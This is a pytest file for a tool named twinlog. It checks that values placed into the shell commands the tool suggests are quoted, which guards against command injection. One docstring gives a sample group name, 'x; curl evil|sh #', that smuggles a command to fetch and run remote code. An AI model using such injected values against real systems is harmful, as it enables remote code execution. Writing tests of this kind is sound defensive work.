"""Commands that twinlog suggests: what is pasted into a shell does what it says, whatever clients called a group."""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

PACKAGE = Path(__file__).parents[1] / "include" / "twinlog"

_OPTION = re.compile(r"--[a-z][a-z-]*[ =]\'?$")

HARMLESS = re.compile(
    r"shlex\.quote\(.*|(.*\.)?(topic|partition|first_offset|mode\.value|mode)|iso\(.*"
    r"|(.*\.)?(flow|name|home|away|other)|next\(iter\((pairs|found).*"
    r"|it\['topic'\]|named|unnamed\[0\]|EVERYBODY|sample|depth"
)
"""Quoted values; names of topics, which Kafka restricts; numbers; names of flows, which the operator's file gives;
what is no value, such as a second option."""


def values_of_options(path: Path) -> Iterator[str]:
    """Yield the expressions whose values stand behind an option of a command in a text."""
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.JoinedStr):
            before = ""
            for part in node.values:
                if isinstance(part, ast.Constant):
                    before = str(part.value)
                    continue
                if isinstance(part, ast.FormattedValue) and _OPTION.search(before):
                    yield ast.unparse(part.value)
                before = ""


@pytest.mark.parametrize("path", sorted(PACKAGE.rglob("*.py")), ids=lambda path: path.stem)
def test_every_value_in_a_suggested_command_is_quoted(path: Path) -> None:
    """A group may be called `x; curl evil|sh #`."""
    assert [] == [it for it in values_of_options(path) if not HARMLESS.fullmatch(it)]


def test_what_is_looked_for_is_found(tmp_path: Path) -> None:
    """Over line ends, and quoted by hand."""
    text = """f"accept it: twinlog accept x --for"  f" {group} --up-to 1, or --flow '{evil}'" """
    path = tmp_path / "hints.py"
    path.write_text(text)
    assert ["group", "evil"] == list(values_of_options(path))
